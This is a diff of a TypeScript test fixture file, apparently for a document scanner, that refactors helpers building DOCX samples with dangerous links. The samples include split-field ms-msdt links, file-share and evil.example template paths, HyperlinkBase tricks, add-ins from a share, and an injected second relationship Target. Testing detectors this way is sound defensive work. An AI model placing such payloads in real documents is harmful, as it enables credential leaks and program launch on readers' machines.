@@ -1,4 +1,14 @@
-import { contentTypes, documentOf, fieldOf, makeDocx, relationships } from '../make-docx.ts';
+import {
+  contentTypes,
+  documentOf,
+  fieldOf,
+  makeDocx,
+  relationships,
+  withBody,
+  withField,
+  withPart,
+  withRelation,
+} from '../make-docx.ts';
 
 /** Each sends a login to a server, starts a program, or opens a file of the reader's disk. */
 export const harmfulTargets = {
@@ -19,8 +29,6 @@ export const harmfulTargets = {
   'a call program': 'skype:ada?call',
 };
 
-const withBody = (body: string) => () => makeDocx({ 'word/document.xml': documentOf(body) });
-const withField = (...pieces: string[]) => withBody(fieldOf(...pieces));
 const simpleField = (code: string) => `<w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}"/>`;
 const piece = (text: string, element = 'instrText') => `<w:r><w:${element}>${text}</w:${element}></w:r>`;
 const vml = (element: string) =>
@@ -30,28 +38,25 @@ const inParts = (make: (name: string, target: string) => [string, () => Buffer])
 const share = harmfulTargets['a file share'];
 const program = harmfulTargets['a support tool'];
 const web = 'https://www.example.com';
+const linkToShare = documentOf(fieldOf(`HYPERLINK "${share}"`));
+const base = (link: string) =>
+  withPart('docProps/app.xml', `<Properties><HyperlinkBase>${link}</HyperlinkBase></Properties>`);
 const mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
 
 const links: Record<string, () => Buffer> = {
   ...inParts((name, target) => [`a field that links to ${name}`, withField(` HYPERLINK "${target}" `)]),
   ...inParts((name, target) => [
     `a relationship that links to ${name}`,
-    () =>
-      makeDocx({
-        'word/_rels/document.xml.rels': relationships({ type: 'hyperlink', target, mode: 'External' }),
-      }),
+    withRelation({ type: 'hyperlink', target, mode: 'External' }),
   ]),
   ...inParts((name, target) => [
     `a drawing that links to ${name}`,
     vml(`<v:shape href="${target}"><v:textbox/></v:shape>`),
   ]),
-  'a link to a program that does not say it is external': () =>
-    makeDocx({
-      'word/_rels/document.xml.rels': relationships({
-        type: 'hyperlink',
-        target: harmfulTargets['a file of the disk'],
-      }),
-    }),
+  'a link to a program that does not say it is external': withRelation({
+    type: 'hyperlink',
+    target: harmfulTargets['a file of the disk'],
+  }),
   'such a link in pieces': withField(' HYPER', 'LINK "ms-', 'msdt:/id" '),
   'such a link in one element': withBody(simpleField(` HYPERLINK "${program}"`)),
   'such a link without quotes': withField(`HYPERLINK ${share}`),
@@ -66,32 +71,20 @@ const links: Record<string, () => Buffer> = {
   'such a link to a bookmark elsewhere': withField(`HYPERLINK "${share}\\a.docx" \\l "name"`),
   'a link whose address a field makes': withField('HYPERLINK "', fieldOf('QUOTE 92 92'), 'evil.example"'),
   'a link whose address an element makes': withField('HYPERLINK "', simpleField('QUOTE 92'), '"'),
-  'such a link in a footer': () =>
-    makeDocx({ 'word/footer1.xml': documentOf(fieldOf(`HYPERLINK "${share}"`)) }),
-  'such a link in footnotes': () =>
-    makeDocx({ 'word/footnotes.xml': documentOf(fieldOf(`HYPERLINK "${share}"`)) }),
-  'such a link in a comment': () =>
-    makeDocx({ 'word/comments.xml': documentOf(fieldOf(`HYPERLINK "${share}"`)) }),
-  'such a link in the glossary': () =>
-    makeDocx({ 'word/glossary/document.xml': documentOf(fieldOf(`HYPERLINK "${share}"`)) }),
-  'such a link in the glossary through a relationship': () =>
-    makeDocx({
-      'word/glossary/_rels/document.xml.rels': relationships({
-        type: 'hyperlink',
-        target: harmfulTargets['a file transfer'],
-        mode: 'External',
-      }),
-    }),
+  'such a link in a footer': withPart('word/footer1.xml', linkToShare),
+  'such a link in footnotes': withPart('word/footnotes.xml', linkToShare),
+  'such a link in a comment': withPart('word/comments.xml', linkToShare),
+  'such a link in the glossary': withPart('word/glossary/document.xml', linkToShare),
+  'such a link in the glossary through a relationship': withPart(
+    'word/glossary/_rels/document.xml.rels',
+    relationships({ type: 'hyperlink', target: harmfulTargets['a file transfer'], mode: 'External' }),
+  ),
   'such a link in a drawing of another namespace': vml(`<v:shape o:href="${share}"/>`),
   'such a link in an alternative': withBody(
     `<mc:AlternateContent ${mc}><mc:Fallback><w:pict><v:rect xmlns:v="urn:v" href="${share}"/></w:pict></mc:Fallback></mc:AlternateContent>`,
   ),
-  'a base of all links behind an element': () =>
-    makeDocx({
-      'docProps/app.xml': `<Properties><HyperlinkBase><a/>${share}</HyperlinkBase></Properties>`,
-    }),
-  'a base of all links': () =>
-    makeDocx({ 'docProps/app.xml': `<Properties><HyperlinkBase>${share}</HyperlinkBase></Properties>` }),
+  'a base of all links behind an element': base(`<a/>${share}`),
+  'a base of all links': base(share),
 };
 
 const fetched: Record<string, () => Buffer> = {
@@ -149,18 +142,18 @@ const fetched: Record<string, () => Buffer> = {
       ),
       'word/_rels/settings.xml.rels': relationships({ type: 'hyperlink', target: web, mode: 'External' }),
     }),
-  'a template by the name that Windows has for a file share': () =>
-    makeDocx({
-      'word/_rels/settings.xml.rels': relationships({
-        type: 'attachedTemplate',
-        target: '\\??\\UNC\\evil.example\\a.dotm',
-        mode: 'External',
-      }),
+  'a template by the name that Windows has for a file share': withPart(
+    'word/_rels/settings.xml.rels',
+    relationships({
+      type: 'attachedTemplate',
+      target: '\\??\\UNC\\evil.example\\a.dotm',
+      mode: 'External',
     }),
-  'an add-in from a file share': () =>
-    makeDocx({
-      'word/webextensions/webextension1.xml': `<we:webextension xmlns:we="urn:we"><we:reference id="a" store="${share}" storeType="FileSystem"/></we:webextension>`,
-    }),
+  ),
+  'an add-in from a file share': withPart(
+    'word/webextensions/webextension1.xml',
+    `<we:webextension xmlns:we="urn:we"><we:reference id="a" store="${share}" storeType="FileSystem"/></we:webextension>`,
+  ),
   'an object of the strict format': withBody('<w:objectLink r:id="rId9"/>'),
 };
 
@@ -170,12 +163,9 @@ export const linkingDocx: Record<string, () => Buffer> = { ...links, ...fetched 
 /** Attributes of which readers may choose one or the other. */
 export const ambiguousDocx: Record<string, () => Buffer> = {
   'two links of one drawing': vml(`<v:shape href="${program}" o:href="${web}"/>`),
-  'two targets of one relationship': () =>
-    makeDocx({
-      'word/_rels/document.xml.rels': relationships({
-        type: 'hyperlink',
-        target: `${web}" xmlns:x="urn:x" x:Target="${web}/b`,
-        mode: 'External',
-      }),
-    }),
+  'two targets of one relationship': withRelation({
+    type: 'hyperlink',
+    target: `${web}" xmlns:x="urn:x" x:Target="${web}/b`,
+    mode: 'External',
+  }),
 };
